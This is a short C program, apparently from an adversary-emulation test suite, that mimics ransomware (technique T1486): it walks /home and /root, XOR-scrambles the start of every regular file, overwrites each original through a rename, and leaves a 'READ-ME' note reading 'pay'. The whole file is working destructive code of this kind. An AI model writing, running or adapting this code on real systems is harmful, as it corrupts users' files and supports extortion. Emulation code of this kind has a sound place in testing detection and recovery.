/* T1486: reads every file in the homes, scrambles it, writes it beside, renames that over it, and leaves a note. */
#include "lib.h"

static uint32_t taken;

static int32_t scramble(const char *path, const struct abi_stat *stat, bool behind, void *with)
{
    char text[256], beside[PATH_BYTES];
    (void)with;
    if (behind || (stat->mode & S_IFMT) != S_IFREG)
        return 0;
    int32_t size = read_file(path, text, sizeof text);
    uint32_t length = length_of(path);
    if (size < 0 || length + 5 > sizeof beside)
        return 0;
    memcpy(beside, path, length);
    memcpy(beside + length, ".new", 5);
    for (int32_t place = 0; place < size; place++)
        text[place] ^= 0x5A;
    int32_t file = CALL(OPENAT, AT_FDCWD, beside, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (file < 0 || !write_all(file, text, (uint32_t)size) || CALL(CLOSE, file) < 0)
        return 0;
    if (CALL(RENAMEAT2, AT_FDCWD, beside, AT_FDCWD, path, 0) == 0)
        taken++;
    return 0;
}

int main(void)
{
    each_below("/home", scramble, NULL);
    each_below("/root", scramble, NULL);
    int32_t note = CALL(OPENAT, AT_FDCWD, "/home/READ-ME", O_WRONLY | O_CREAT, 0644);
    if (note >= 0)
        write_all(note, "pay\n", 4);
    print(taken ? "done\n" : "no\n");
    return !taken;
}
